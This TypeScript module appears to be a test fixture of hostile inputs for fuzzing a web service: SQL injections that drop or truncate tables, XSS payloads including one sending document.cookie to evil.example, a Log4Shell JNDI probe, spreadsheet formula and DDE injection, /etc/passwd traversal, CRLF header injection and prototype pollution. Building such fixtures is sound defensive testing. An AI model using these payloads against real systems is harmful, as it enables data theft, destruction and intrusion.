/*
 * What an attacker types into every field: SQL and script injection, template and log injection, path traversal,
 * control and format characters, odd Unicode, and values that are the wrong type altogether.
 */

export const SQL_INJECTIONS = [
  "'; DROP TABLE events; --",
  "' OR '1'='1",
  '" OR ""="',
  "1' UNION SELECT name, engine FROM system.tables --",
  '1; SELECT * FROM system.users',
  "') ; TRUNCATE TABLE events_daily; --",
  "{site:String}' OR 1=1 --",
  '1 AND SLEEP(5)',
  '0x27; ALTER TABLE events DELETE WHERE 1 --',
  "admin'--",
  '\\x27 OR 1=1',
  '%27%20OR%201%3D1%20--',
] as const;

export const SCRIPT_INJECTIONS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  '<svg/onload=fetch(`//evil.example/`+document.cookie)>',
  '{{constructor.constructor("return process")().exit()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, meant literally
  '${7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
  '${jndi:ldap://evil.example/a}',
  '=HYPERLINK("http://evil.example","x")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '</title><script>alert(document.domain)</script>',
] as const;

export const ODD_STRINGS = [
  '',
  ' ',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '\u0000',
  'a\u0000b',
  '\r\nSet-Cookie: x=1',
  '\u202e\u200b\ufeff',
  '\ud800',
  '\udfff\ud800',
  '💥'.repeat(200),
  'ǅǈǋ Ⅻ ﬁ ß ẞ',
  'A'.repeat(3000),
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  'true',
  '[]',
  '{}',
] as const;

export const INJECTIONS: readonly string[] = [...SQL_INJECTIONS, ...SCRIPT_INJECTIONS];
export const HOSTILE_STRINGS: readonly string[] = [...INJECTIONS, ...ODD_STRINGS];

/** JSON values of every type, for fields that expect something else. */
export const WRONG_TYPES: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  -0,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  '',
  '1',
  'giessen',
  [],
  [1, 2, 3],
  {},
  { a: 1 },
  [[[[[]]]]],
  { __proto__: { polluted: true } },
];

/** Bytes that are not UTF-8: lone continuation, overlong, surrogate, truncated and out-of-range sequences. */
export const INVALID_UTF8: readonly Buffer[] = [
  Buffer.from([0x80]),
  Buffer.from([0xbf, 0xbf]),
  Buffer.from([0xc0, 0xaf]),
  Buffer.from([0xc3, 0x28]),
  Buffer.from([0xe0, 0x80, 0xaf]),
  Buffer.from([0xed, 0xa0, 0x80]),
  Buffer.from([0xf0, 0x28, 0x8c, 0xbc]),
  Buffer.from([0xf4, 0x90, 0x80, 0x80]),
  Buffer.from([0xf8, 0x88, 0x80, 0x80, 0x80]),
  Buffer.from([0xfe, 0xff]),
  Buffer.from([0xff]),
  Buffer.from([0xe2, 0x82]),
];

/** Header values undici will send: no CR, LF or NUL, and only Latin-1 characters (sent as single bytes). */
export function headerSafe(value: string): boolean {
  return /^[\t\x20-\x7e\x80-\xff]*$/.test(value);
}

export const HEADER_INJECTIONS: readonly string[] = HOSTILE_STRINGS.filter(headerSafe);

/**
 * `encodeURIComponent` that also takes lone surrogates: they become the three bytes a naive encoder would write
 * (CESU-8), which is one more kind of invalid UTF-8 in a URL.
 */
export function encodeAny(value: string): string {
  let out = '';
  for (const char of value) {
    const u = char.charCodeAt(0);
    out +=
      char.length === 1 && u >= 0xd800 && u <= 0xdfff
        ? [0xe0 | (u >> 12), 0x80 | ((u >> 6) & 0x3f), 0x80 | (u & 0x3f)]
            .map((b) => `%${b.toString(16).toUpperCase()}`)
            .join('')
        : encodeURIComponent(char);
  }
  return out;
}
